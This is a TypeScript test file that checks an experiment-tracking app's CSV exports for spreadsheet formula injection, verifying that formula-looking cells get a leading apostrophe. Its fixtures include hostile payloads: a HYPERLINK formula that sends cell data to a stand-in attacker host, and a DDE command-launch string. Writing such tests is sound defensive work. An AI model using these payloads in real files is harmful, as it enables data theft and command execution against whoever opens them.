import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { IngestMetricsRequest } from "@/server/schemas/ingest";
import { exportExperiment, parseCsv } from "@/server/services/export";
import { ingestMetrics } from "@/server/services/ingest";
import { setRunTags } from "@/server/services/runs-table";
import { createTestDb, type TestDb } from "@/tests/helpers/db";
import { storedPoints } from "@/tests/helpers/metrics";
import {
  addEvaluation,
  type Fixture,
  makeExperiment,
} from "@/tests/server/services/runs-table/fixture";

// Issue #12, finding 6: the runs, metrics and samples CSV exports wrote a model output starting
// with "=" as a live formula (only the votes export defused it). Every export now goes through
// one cell function: formula-looking text gets a leading apostrophe (OWASP), numbers stay numbers.

let t: TestDb;
let f: Fixture;
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

beforeAll(async () => {
  t = await createTestDb();
  f = await makeExperiment(t.db);
  const runId = f.runIds[0]!;
  await addEvaluation(
    t.db,
    f,
    runId,
    [...hostile, "-1.5", "plain answer"].map((output, i) => ({
      reference: "ref",
      output,
      chrf: i,
      accuracy: 0,
    })),
  );
  await ingestMetrics({
    ctx: f.ctx,
    input: {
      runId,
      ...IngestMetricsRequest.parse({
        points: [
          { name: "=1+1", step: 1, value: -0.5 },
          { name: "train/loss", step: 1, value: -2e-7 },
        ],
      }),
    },
  });
  await setRunTags({ ctx: f.ctx, input: { runId, tags: ["=tag()"] } });
});
afterAll(() => t?.close());

async function csv(what: "runs" | "metrics" | "samples") {
  const body = await new Response(
    await exportExperiment({
      ctx: f.ctx,
      input: { experimentId: f.experimentId, what, format: "csv" },
    }),
  ).text();
  const [header, ...rows] = parseCsv(body);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

describe("CSV exports", () => {
  it("defuse formulas in sample outputs and keep a negative number as it is", async () => {
    const outputs = (await csv("samples")).map((r) => r.output ?? "");
    for (const h of hostile) expect(outputs).toContain(`'${h}`);
    expect(outputs).toContain("-1.5");
    expect(outputs).toContain("plain answer");
    expect(outputs.filter((o) => /^[=+\-@\t\r]/.test(o) && o !== "-1.5")).toEqual([]);
  });

  it("defuse a formula in a metric name, keep negative values numbers, store the name as sent", async () => {
    const rows = await csv("metrics");
    const formula = rows.find((r) => r.name === "'=1+1");
    expect(formula?.value).toBe("-0.5");
    expect(rows.find((r) => r.name === "train/loss")?.value).toBe("-2e-7");
    const stored = (await storedPoints(t.db)).filter((p) => p.value === -0.5);
    expect(stored.map((p) => p.name)).toEqual(["=1+1"]);
  });

  it("defuse a formula inside a run's tags", async () => {
    const run = (await csv("runs")).find((r) => r.id === f.runIds[0]);
    expect(run?.tags?.startsWith("[")).toBe(true); // JSON text never starts a formula
    expect(run?.tags).toContain("=tag()");
  });
});
